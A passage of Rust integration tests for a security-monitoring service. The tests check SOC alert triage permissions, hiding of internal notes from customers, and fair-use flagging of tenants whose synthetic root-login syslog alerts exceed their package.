    let seen = app.get_json(&anna, &format!("/api/v1/alerts/{}", alert.id)).await.to_string();
    assert!(seen.contains("PermitRootLogin"), "{seen}");
    assert!(!seen.contains("intern pr"), "customers never see internal notes: {seen}");
    // Close with a verdict.
    app.services.triage_soc_alert(&soc, alert.id, None, None, Some("true_positive")).await.expect("close");
    let closed = app.store.alert(&TenantScope::All, alert.id).await.expect("alert");
    assert_eq!(closed.state, leitstand_domain::alert::AlertState::Resolved);
    assert_eq!(closed.severity, leitstand_domain::alert::Severity::Critical);
    assert_eq!(closed.soc_class.as_deref(), Some("brute_force"));
    assert_eq!(closed.soc_verdict, Some(leitstand_domain::soc::Verdict::TruePositive));
    // A customer can do none of this.
    let anna_actor = app.actor("anna").await;
    assert!(app.services.triage_soc_alert(&anna_actor, alert.id, None, None, Some("false_positive")).await.is_err());
    assert!(app.services.soc_internal_note(&anna_actor, alert.id, "x").await.is_err());
}

#[tokio::test]
async fn usage_far_above_the_package_is_flagged() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "1").await;
    set_package(&app, w.b, "1").await;
    source(&app, w.a, by_address("A", "127.0.0.1")).await;
    source(&app, w.b, by_address("B", "127.0.0.2")).await;
    // 301 root logins from different addresses: 301 alerts for A (package 1 includes 100).
    let lines = (0..301)
        .map(|i| {
            let text = format!(
                "<38>Nov 18 09:19:04 h sshd[1]: Accepted password for root from 10.{}.{}.1 port 1 ssh2",
                i / 256,
                i % 256
            );
            common::datagram("127.0.0.1", &text)
        })
        .chain(std::iter::once(common::datagram(
            "127.0.0.2",
            "<38>Nov 18 09:19:04 h sshd[1]: Accepted password for root from 10.0.0.1 port 1 ssh2",
        )))
        .collect();
    app.services.ingest_syslog(lines).await.expect("in");
    let admin = app.services.cli_actor().await.expect("admin");
    let month = app.now().to_zoned(jiff::tz::TimeZone::get("Europe/Berlin").expect("tz"));
    let rows = app.services.soc_fair_use(&admin, month.year(), month.month()).await.expect("fair use");
    let a = rows.iter().find(|r| r.tenant == w.a).expect("A");
    let b = rows.iter().find(|r| r.tenant == w.b).expect("B");
    assert_eq!((a.alerts, a.over), (301, true));
    assert_eq!((b.alerts, b.over), (1, false));
}
